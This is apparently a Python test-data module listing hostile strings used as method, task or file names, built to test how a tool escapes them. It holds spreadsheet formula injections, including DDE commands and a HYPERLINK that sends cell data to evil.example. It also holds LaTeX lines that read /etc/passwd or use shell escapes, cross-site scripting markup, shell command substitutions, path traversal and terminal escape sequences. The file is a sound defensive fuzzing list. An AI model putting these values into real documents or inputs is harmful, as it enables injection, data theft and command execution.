"""Two hundred names that somebody could give a method, a task, a category or a file in order to do harm."""

from tests.word_lists import listed

__all__ = ["HOSTILE_NAMES", "PRINTED_NAMES", "UNPRINTED_NAMES"]

FORMULAS = (
    *listed(r"""
    =1+1  =cmd|' /C calc'!A0  +1+cmd|' /C calc'!A0  -2+3+cmd|' /C calc'!A0  @SUM(1+1)*cmd|'x'!A0
    =HYPERLINK("https://evil.example/?"&A1,"x")  =WEBSERVICE('https://evil.example')  ==  -  +  @  x,=1+1
    x;=1+1  x;@SUM(A1)  x, =1+1  ",=1+1,"  ";=1+1;"  '=1+1  "=1+1"  x,-1+1|cmd
    """),
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    *listed(r"""
    %0A=1+1  =1+1#  #=1+1  DDE("cmd";"/C")
    """),
)
LATEX = (
    *listed(r"""
    \input{/etc/passwd}  \include{/etc/passwd}  \write18{touch evil}  \immediate\write18{id}
    ^^M\input{/etc/passwd}  ^^J\input{/etc/passwd}  %^^M\input{/etc/passwd}  ^^5cinput{/etc/passwd}
    \end{tabular}  \end{document}  \begin{verbatim}  \catcode`\%=12  \def\x{\x}\x  \\[99cm]  }{  }}  {  }  $
    $$  $x$  \(x\)  \[x\]  &  & & &  %  %%  #  #1  ##  ~  ^  _
    """),
    "\\",
    "\\\\",
    *listed(r"""
    \newline  [1em]  *  *[1em]  [  ]  --  ---  ``  ''  "  ?`  !`  <  >  |  a_b  100%  a^b  \verb|x|
    \label{x}  \ref{x}  \tableofcontents  \openin5=/etc/passwd  \read5 to\x  \jobname  \special{ps:x}
    \pdfximage{/etc/passwd}
    """),
)
ADDRESSES = listed(r"""
    https://evil.example/a  http://evil.example  <https://evil.example/b>  www.evil.example
    WWW.evil.example  me@evil.example  <me@evil.example>  mailto:me@evil.example  xmpp:me@evil.example
    HTTPS://EVIL.EXAMPLE  ftp://evil.example/c  //evil.example/d  file:///etc/passwd  javascript:alert(1)
    data:text/html,x  a https://evil.example/e b  (https://evil.example/f)  *https://evil.example/g*
    https://evil.example?a=b&c  _www.evil.example_  x:https://evil.example  [x](https://evil.example/h)
    [x]: https://evil.example/i  [x][1]  ![x](https://evil.example/j.png)  ![x][1]
    [![x](https://evil.example/k.png)](javascript:alert(1))  \\evil.example\share  @everyone  @evil
    a.b@evil.example.  evil.example  https:evil.example
    """)
MARKUP = listed(r"""
    <script>alert(1)</script>  </script><script>alert(1)</script>  <img src=x onerror=alert(1)>  <b>  </b>
    "><img src=https://evil.example/l.png>  '><svg/onload=alert(1)>  <iframe src=https://evil.example/m>
    </table>  </td></tr></table>  <!--  -->  --!>  --->  a-->b  a--!><img src=x onerror=alert(1)>
    <style>*{display:none}</style>  <meta http-equiv=refresh content='0;url=https://evil.example'>
    &lt;b&gt;  &#60;script&#62;  &amp;  &nbsp;  <a href='https://evil.example/n'>x</a>
    <base href=//evil.example>  **x**  __x__  `x`  ``x``  ~~x~~  # x  > x  - x  1. x  1) x  + x  * x  ---x
    ===  | x  x | y  x \| y  |---|  - [ ] x  [^1]  [^1]: x  ```  ~~~  $x^2$  $$x$$  :::  ==x==
    :material/home:  :red[x]  :red-background[x]  :streamlit:  :smile:  :+1:  :rainbow[x]  :small[x]
    :blue-badge[x]  :green-badge[:material/check: x]  -> x <-  <->  >= <= ~=  --  :shortcode:  #include "x"
    #read("/etc/passwd")  #eval("1")  *x*  _x_  @ref  <label>  // x  /* x */  ]  #[
    #link("https://evil.example/o")  = x  / x: y  {{7*7}}  ${7*7}  %s%n  {0}  <%= 7*7 %>
    """)
PLACES = (
    *listed(r"""
    ../../etc/passwd  ..  /etc/passwd  C:\Windows  a/b  a\b  ~root  $HOME  `id`  $(id)  ; touch evil
    | touch evil  && touch evil  -rf  --help  --output=evil  '  a'b  a"b  a b  CON  NUL  a*  a?  {a,b}  !!
    <x  >x  a=b  a:b  a,b  a;b  None  nan  True  0
    """),
    "\u4e2d\u6587",
    "\u03b1\u03b2",
    "\u0639\u0631\u0628\u064a",
    "\u05e2\u05d1\u05e8",
    "e\u0301",
    "\xe9",
    "\U0001f600",
    "\uff1cb\uff1e",
    *listed(r"""
    xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx
    """),
)
UNPRINTED_NAMES = (
    *(
        "a\nb",
        "a\r\nb",
        "a\rb",
        "a\tb",
        "a\vb",
        "a\fb",
        "a\x1cb",
        "a\x85b",
        "a\u2028b",
        "a\u2029b",
        "\x00",
        "a\x00b",
    ),
    *(
        "a\n\\input{/etc/passwd}",
        "a\r\\input{/etc/passwd}",
        "a\n=1+1",
        "a\n-->",
        "\x1b[2Jx",
        "\x1b]0;x\x07",
        "\x9b2J",
    ),
    *(
        "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\",
        "\x08\x08\x08x",
        "\x07",
        "\x7f",
        "\u202etxt.exe",
        "\u2066x\u2069",
    ),
    *("\u200bx", "x\u200d", "\ufeffx", "\u00adx", "x\u00a0y", "\udc80x", "x" * 256, ""),
)
"""Those that are no names: more than a line, or not printed, or too long."""
PRINTED_NAMES = (*dict.fromkeys((*FORMULAS, *LATEX, *ADDRESSES, *MARKUP, *PLACES)),)
HOSTILE_NAMES = (*PRINTED_NAMES, *UNPRINTED_NAMES)
